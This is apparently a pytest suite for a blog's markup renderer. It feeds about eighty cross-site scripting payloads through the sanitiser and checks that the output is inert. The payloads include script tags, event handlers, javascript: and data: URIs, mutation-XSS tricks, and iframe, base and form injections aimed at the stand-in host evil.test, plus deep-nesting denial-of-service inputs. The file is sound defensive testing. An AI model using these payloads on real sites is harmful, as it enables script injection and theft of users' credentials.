"""What attackers write comes out inert."""

import re

import pytest
from bs4 import BeautifulSoup

from blogapp.core.errors import Invalid
from blogapp.core.markup import render

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.test/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    '<img src="x`y" `onerror=alert(1)>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    '<math href="javascript:alert(1)">x</math>',
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](\x01javascript:alert(1))",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a][b]\n\n[b]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![a](javascript:alert(1))",
    "![a](data:image/svg+xml,<svg/onload=alert(1)>)",
    '![a](x "onerror=alert(1)")',
    '![a"onerror="alert(1)](x)',
    '[a](x" onmouseover="alert(1))',
    '<a href="javascript&colon;alert(1)">x</a>',
    "<a href=' javascript:alert(1)'>x</a>",
    '<a href="#" onclick="alert(1)">x</a>',
    '<a href="/x" target="_blank" ping="//evil.test">x</a>',
    "a{: onclick=alert(1)}\n{: onclick=alert(1) style=color:red}",
    "# a {: onclick=alert(1) }",
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<style>@import '//evil.test/x.css';</style>",
    '<link rel="stylesheet" href="//evil.test/x.css">',
    '<meta http-equiv="refresh" content="0;url=//evil.test">',
    '<base href="//evil.test/">',
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="//evil.test/"></iframe>',
    '<iframe src="https://www.youtube.com.evil.test/embed/x"></iframe>',
    '<iframe src="https://www.youtube.com/embed/x"><script>alert(1)</script></iframe>',
    '<iframe src="https://www.youtube.com@evil.test/"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    "<embed src=//evil.test/x.swf>",
    "<applet code=x></applet>",
    '<form action="//evil.test"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
    "<noscript><img src=x onerror=alert(1)></noscript>",
    "<noscr<noscript>ipt><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<pre onclick=alert(1)>\n<script>alert(1)</script></pre>",
    "| a<script>alert(1)</script> |\n{: onclick='alert(1)' style='x'}",
    "* {: onclick='alert(1)'} a\n{: style='color:red'}",
    "{:toc onclick='alert(1)'}\n* x\n{:toc}\n\n# <img src=x onerror=alert(1)>",
    "```<img/src=x/onerror=alert(1)>\nx\n```",
    "> ```\n> <script>alert(1)</script>\n> ```",
    "* a\n  <script>alert(1)</script>\n  \x04<script>alert(1)</script>",
    "[a]: javascript:alert(1) \"t\"\n\n[a] ![a]",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    '<video poster="javascript:alert(1)" src="data:text/html,x"></video>',
    "<audio src=x onerror=alert(1) autoplay></audio>",
    "<body onload=alert(1)>",
    '<div><template><script>alert(1)</script></template></div>',
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><script>alert(1)</script></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "```\"><script>alert(1)</script>\nx\n```",
    "```{.x onclick=alert(1) style=color:red}\nx\n```",
    "x[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "*[A]: \"><script>alert(1)</script>\n\nA",
    "| <img src=x onerror=alert(1)> |\n|---|\n| [a](javascript:alert(1)) |",
    "https://x.test/\"onmouseover=alert(1)//",
    'www.x.test/"><script>alert(1)</script>',
    '<img srcset="javascript:alert(1) 1x, data:text/html,x 2x" src="x">',
    '<ins cite="javascript:alert(1)">x</ins><blockquote cite="javascript:alert(1)">y</blockquote>',
]  # fmt: skip
HARMLESS_ELEMENTS = {
    *"a abbr audio b blockquote br code dd del details div dl dt em h1 h2 h3 h4 h5 h6 hr i iframe img ins".split(),
    *"li ol p pre section source span strong sub summary sup table tbody td th thead tr ul video html body".split(),
}
ADDRESSES = ("href", "src", "poster", "cite", "action", "data", "formaction", "background", "ping")


def scheme_of(address: str) -> str:
    """What a browser takes for the scheme: it forgives blanks and control characters before, line ends within."""
    address = re.sub(r"[\t\n\r]", "", address).lstrip("".join(map(chr, range(33))))
    match = re.match(r"([A-Za-z][A-Za-z0-9+.-]*):", address)
    return match[1].lower() if match else ""


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_comes_out_inert(attack: str) -> None:
    for text in (attack, f"Before\n\n{attack}\n\nafter", f"* item {attack}", f"<div>{attack}</div>"):
        html = render(text).html
        soup = BeautifulSoup(html, "html5lib")
        if soup.head:
            assert not soup.head.contents
            soup.head.extract()
        for element in soup.find_all(True):
            assert element.name in HARMLESS_ELEMENTS, html
            for name, value in element.attrs.items():
                words = " ".join(value) if isinstance(value, list) else str(value)
                assert not name.startswith("on"), html
                assert name not in ("style", "srcdoc", "target", "ping", "formaction", "autoplay", "http-equiv"), html
                if name in ADDRESSES:
                    assert scheme_of(words) in ("", "http", "https", "mailto", "tel"), html
                if name == "srcset":
                    assert "script" not in words, html
            if element.name == "iframe":
                assert str(element["src"]).startswith("https://www.youtube-nocookie.com/embed/"), html
                assert not element.contents, html


def test_there_are_enough_attacks() -> None:
    assert len(ATTACKS) >= 40


def test_a_named_hosts_player_stays_in_a_sandbox_and_asks_for_no_cookies() -> None:
    html = render('<iframe width="480" src="//www.youtube.com/embed/a?rel=0" allowfullscreen onload="x"></iframe>').html
    assert 'src="https://www.youtube-nocookie.com/embed/a?rel=0"' in html
    assert 'sandbox="allow-scripts allow-same-origin allow-presentation allow-popups"' in html
    assert 'loading="lazy"' in html
    assert "onload" not in html


def test_maps_and_documents_stay_frames_but_nothing_else_of_that_host() -> None:
    html = render('<iframe src="http://maps.google.co.uk/maps?q=a&amp;output=embed"></iframe>').html
    assert 'src="https://maps.google.com/maps?q=a&amp;output=embed"' in html
    assert "<iframe" in render('<iframe src="https://www.google.com/maps/embed?pb=1"></iframe>').html
    assert "<iframe" not in render('<iframe src="https://www.google.com/url?q=//evil.test"></iframe>').html
    assert "<iframe" not in render('<iframe src="https://maps.google.evil.test/"></iframe>').html


def test_another_hosts_frame_becomes_a_link_so_that_nothing_is_lost() -> None:
    html = render('<iframe src="https://docs.example.org/preview"></iframe>').html
    assert '<a class="embedded" href="https://docs.example.org/preview">docs.example.org</a>' in html


def test_what_members_need_stays() -> None:
    source = (
        '<del>a</del> <ins datetime="2017-01-01">b</ins> <kbd>c</kbd> <a href="/x" rel="me evil">d</a>\n\n'
        '<video src="/v.mp4" width="640"></video>\n\n<audio src="/a.mp3"></audio>\n\n'
        '<figure class="wide" id="f"><img src="/i.png" alt="I" width="3" height="2"><figcaption>F</figcaption></figure>'
    )
    html = render(source).html
    for part in (
        "<del>a</del>", '<ins datetime="2017-01-01">b</ins>', "<kbd>c</kbd>", 'rel="me"', 'src="/v.mp4"',
        "<figcaption>", 'src="/a.mp3"', 'class="wide"', 'id="f"', 'width="3"', 'loading="lazy"', "controls",
    ):  # fmt: skip
        assert part in html
    assert "evil" not in html


@pytest.mark.parametrize("text", ["[this](//[)", '<a href="http://[x">this</a>', "[this](https://a]/)"])
def test_an_address_that_nobody_can_take_apart_is_left_out(text: str) -> None:
    html = render(text).html
    assert "href" not in html
    assert "this" in html


@pytest.mark.parametrize(
    "text",
    [
        "<div>" * 90_000,
        "<div>words\n\n" * 30_000,
        "<span>" * 80_000,
        "<b>" * 60_000 + "<p>x" * 60_000,
        "".join(f'<p><b id="{number}">x' for number in range(20_000)),
        "<li><dd>" * 60_000,
        "<table><td>" * 40_000,
        '<div title="</div>"><!-- </div> -->' * 12_000,
    ],
)
def test_what_nests_too_deeply_is_refused_before_anything_reads_it(text: str) -> None:
    for given, format in ((text, "html"), (text[:20_000], "markdown")):
        with pytest.raises(Invalid, match="too deeply"):
            render(given, format=format)


@pytest.mark.parametrize(
    "text",
    [
        "<p>words" * 5000,
        "<ul>" + "<li>words" * 5000,
        "<dl>" + "<dt>word<dd>what it means" * 5000,
        "<table>" + "<tr><td><font size=2>words</td>" * 5000 + "</table>",
        "<a name=x>words<br>" * 5000,
        "<div><p>words</div>" * 5000,
        "<ruby>a<rt>b</ruby>" * 5000,
    ],
)
def test_what_closes_by_itself_is_not_deep_however_long_it_is(text: str) -> None:
    assert len(render(text, format="html").html) > 50_000
